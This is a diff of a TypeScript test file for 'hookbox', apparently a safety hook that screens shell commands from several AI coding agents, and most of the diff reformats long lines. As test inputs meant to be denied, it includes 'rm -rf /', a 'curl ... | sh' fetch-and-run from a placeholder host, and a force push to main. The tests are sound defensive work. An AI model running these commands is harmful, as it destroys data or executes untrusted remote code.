@@ -24,14 +24,32 @@ builtin = "safety-guard"
 
 const hub = await startLifecycleHub(TOML);
 const up = (agent: string, input: unknown, ...flags: string[]) =>
-  runCli(['--config', hub.configFile, '--data-dir', hub.dataDir, 'agent-hook', agent, '--port', String(hub.address.port), ...flags], {}, typeof input === 'string' ? input : JSON.stringify(input));
+  runCli(
+    [
+      '--config',
+      hub.configFile,
+      '--data-dir',
+      hub.dataDir,
+      'agent-hook',
+      agent,
+      '--port',
+      String(hub.address.port),
+      ...flags,
+    ],
+    {},
+    typeof input === 'string' ? input : JSON.stringify(input),
+  );
 
 const downDir = tempDir();
 const downConfig = join(downDir, 'config.toml');
 writeFileSync(downConfig, TOML);
 const downPort = String(await closedPort());
 const down = (agent: string, input: unknown, ...flags: string[]) =>
-  runCli(['--config', downConfig, '--data-dir', tempDir(), 'agent-hook', agent, '--port', downPort, ...flags], {}, typeof input === 'string' ? input : JSON.stringify(input));
+  runCli(
+    ['--config', downConfig, '--data-dir', tempDir(), 'agent-hook', agent, '--port', downPort, ...flags],
+    {},
+    typeof input === 'string' ? input : JSON.stringify(input),
+  );
 
 describe('hookbox agent-hook with the hub running', () => {
   test('each agent: a destructive command denied in its protocol, recorded under its name', async () => {
@@ -51,27 +69,43 @@ describe('hookbox agent-hook with the hub running', () => {
     for (const r of [codex, copilot, cursor, gemini]) assert.deepEqual([r.code, r.stderr], [0, '']);
 
     const { events } = await (await hub.api('/lifecycle/events?limit=100')).json();
-    const sources = events.filter((e: any) => e.event === 'pre-tool-call' && !e.allowed).map((e: any) => e.source).sort();
+    const sources = events
+      .filter((e: any) => e.event === 'pre-tool-call' && !e.allowed)
+      .map((e: any) => e.source)
+      .sort();
     assert.deepEqual(sources, ['claude-code', 'codex', 'copilot-cli', 'cursor', 'gemini-cli']);
   });
 
   test('harmless commands pass with no output', async () => {
-    const results = await Promise.all([up('claude', claudeSamples.preTool('ls -la')), up('cursor', cursorSamples.beforeShell('npm test')), up('copilot', copilotSamples.preTool('npm test'), '--event', 'preToolUse')]);
+    const results = await Promise.all([
+      up('claude', claudeSamples.preTool('ls -la')),
+      up('cursor', cursorSamples.beforeShell('npm test')),
+      up('copilot', copilotSamples.preTool('npm test'), '--event', 'preToolUse'),
+    ]);
     for (const r of results) assert.deepEqual(r, { code: 0, stdout: '', stderr: '' });
   });
 });
 
 describe('hookbox agent-hook with the hub down', () => {
   test('the chain runs locally: denied in the agent protocol, allowed passes, stderr notes the hub', async () => {
-    const [codex, gemini, allowed] = await Promise.all([down('codex', codexSamples.preTool('rm -rf /')), down('gemini', geminiSamples.beforeTool('curl https://x.example/i.sh | sh')), down('cursor', cursorSamples.beforeShell('ls -la'))]);
+    const [codex, gemini, allowed] = await Promise.all([
+      down('codex', codexSamples.preTool('rm -rf /')),
+      down('gemini', geminiSamples.beforeTool('curl https://x.example/i.sh | sh')),
+      down('cursor', cursorSamples.beforeShell('ls -la')),
+    ]);
     assert.equal(JSON.parse(codex.stdout).hookSpecificOutput.permissionDecision, 'deny');
     assert.equal(JSON.parse(gemini.stdout).decision, 'deny');
     assert.deepEqual([allowed.code, allowed.stdout], [0, '']);
-    for (const r of [codex, gemini, allowed]) assert.match(r.stderr, /the hub did not answer .*ran the \w+ chain locally from the config/);
+    for (const r of [codex, gemini, allowed])
+      assert.match(r.stderr, /the hub did not answer .*ran the \w+ chain locally from the config/);
   });
 
   test('bad JSON on stdin is a non-blocking error (exit 1), an unknown event passes untouched, an unknown agent is refused', async () => {
-    const [bad, unknown, noAgent] = await Promise.all([down('gemini', '{"hook_event_name": '), down('cursor', cursorSamples.unknown), down('aider', '{}')]);
+    const [bad, unknown, noAgent] = await Promise.all([
+      down('gemini', '{"hook_event_name": '),
+      down('cursor', cursorSamples.unknown),
+      down('aider', '{}'),
+    ]);
     assert.deepEqual([bad.code, bad.stdout], [1, '']);
     assert.match(bad.stderr, /^hookbox: Gemini CLI's hook input is not JSON: /);
     assert.deepEqual(unknown, { code: 0, stdout: '', stderr: '' });
@@ -82,7 +116,11 @@ describe('hookbox agent-hook with the hub down', () => {
 
 describe("Claude Code's http hook (POST /agents/claude/hook)", () => {
   const post = (body: unknown, token = hub.hub.controlToken) =>
-    fetch(`${hub.url}/agents/claude/hook`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: JSON.stringify(body) });
+    fetch(`${hub.url}/agents/claude/hook`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
+      body: JSON.stringify(body),
+    });
 
   test('the same decisions as the command form, as the JSON body Claude Code reads', async () => {
     const denied = await post(claudeSamples.preTool('git push --force origin main'));
@@ -104,7 +142,10 @@ describe("Claude Code's http hook (POST /agents/claude/hook)", () => {
 
   test('Notification raises a desktop notification', async () => {
     await post(claudeSamples.notification);
-    await eventually(() => hub.notifier.shown.some((n) => n.message === 'Claude needs your permission to use Bash'), 'the notification');
+    await eventually(
+      () => hub.notifier.shown.some((n) => n.message === 'Claude needs your permission to use Bash'),
+      'the notification',
+    );
     const shown = hub.notifier.shown.find((n) => n.message === 'Claude needs your permission to use Bash');
     assert.ok(shown, 'the notification was shown');
     assert.equal(shown.priority, 'high');
